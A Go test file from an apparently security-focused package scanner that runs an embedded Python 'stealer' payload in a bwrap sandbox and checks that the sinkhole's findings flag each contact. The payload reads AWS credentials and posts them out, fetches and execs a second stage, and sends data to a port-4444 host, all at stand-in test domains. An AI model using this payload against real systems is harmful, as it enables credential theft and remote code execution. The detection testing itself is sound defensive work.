package behavior

import (
	"context"
	"encoding/hex"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/pyti/pyti/internal/report"
	"github.com/pyti/pyti/internal/sandbox"
	"github.com/pyti/pyti/internal/sandbox/bwrap"
)

// stealer does, inside the real sandbox, what an install-time payload does: it reads a decoy
// credential and posts it base64-encoded with the host name hex-encoded in the query, downloads
// a second stage and runs it, opens TLS to an API, and sends raw bytes to an odd port.
const stealer = `
import base64, os, socket, ssl, urllib.request
cred = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
q = socket.gethostname().encode().hex()
req = urllib.request.Request("http://collect.pyti-test.example/c?h=" + q, data=b"blob=" + base64.urlsafe_b64encode(cred), method="POST")
print("post", urllib.request.urlopen(req, timeout=10).status)
exec(urllib.request.urlopen("http://dl.pyti-test.example/stage2.py", timeout=10).read())
print("stage2 ran")
try:
    with socket.create_connection(("api.pyti-test.example", 443), timeout=10) as s:
        ssl.create_default_context().wrap_socket(s, server_hostname="api.pyti-test.example")
except OSError:
    print("tls refused")
with socket.create_connection(("c2.pyti-test.example", 4444), timeout=10) as s:
    s.sendall(b"uid=" + str(os.getuid()).encode() + b" ")
print("done")
`

// TestContactFindingsInSandbox runs stealer in the bwrap sandbox and judges what the sinkhole
// recorded: the findings name the URL, the decoded data, the server name and the DNS names.
func TestContactFindingsInSandbox(t *testing.T) {
	b := bwrap.New()
	if err := b.Check(); err != nil {
		t.Skipf("bwrap backend not usable here: %v", err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	res, err := b.Run(ctx, sandbox.Spec{Argv: []string{"/usr/bin/python3", "-c", stealer}, WorkDir: t.TempDir(),
		Limits: sandbox.Limits{Wall: time.Minute, MemoryBytes: 512 << 20, Pids: 64}})
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff("post 200\nstage2 ran\ntls refused\ndone\n", string(res.Stdout)); d != "" {
		t.Fatalf("the payload did not go on (-want +got)\n%s\nstderr: %s", d, res.Stderr)
	}
	type row struct {
		Rule     string
		Severity report.Severity
		Detail   string
	}
	postURL := "http://collect.pyti-test.example/c?h=" + hex.EncodeToString([]byte("pyti-sandbox"))
	want := []row{
		{RuleSinkholeCredentials, report.SeverityCritical, postURL},
		{RuleSinkholeRequest, report.SeverityHigh, postURL},
		{RuleSinkholeRequest, report.SeverityHigh, "http://dl.pyti-test.example/stage2.py"},
		{RuleSinkholeRequest, report.SeverityHigh, "tls://api.pyti-test.example:443"},
		{RuleSinkholeRequest, report.SeverityHigh, "tcp://c2.pyti-test.example:4444"},
	}
	fs := ContactFindings("install", res.Contacts, res.ContactsDropped)
	var got []row
	var msgs strings.Builder
	for _, f := range fs {
		got = append(got, row{f.RuleID, f.Severity, f.Evidence[0].Subject()})
		msgs.WriteString(f.Message + "\n")
	}
	// The sinkhole records a connection when it closes, so two connections that overlap (a
	// response read, its connection closed lazily while the next request starts) may come out in
	// either order: which findings there are is the point, not their order.
	byRow := cmpopts.SortSlices(func(a, b row) bool { return a.Rule+a.Detail < b.Rule+b.Detail })
	if d := cmp.Diff(want, got, byRow); d != "" {
		t.Errorf("findings (-want +got)\n%s\n%s", d, msgs.String())
	}
	for _, m := range []string{
		"aws_access_key_id = AKIA" + sandbox.Canary, // the body, decoded from base64
		`decoded: "pyti-sandbox"`,                   // the query, decoded from hex
		"for server name api.pyti-test.example",     // the SNI
		"looked up c2.pyti-test.example (PYTI's sinkhole answered 198.18.",
		`"uid=1000 "`,
	} {
		if !strings.Contains(msgs.String(), m) {
			t.Errorf("no finding mentions %q:\n%s", m, msgs.String())
		}
	}
}
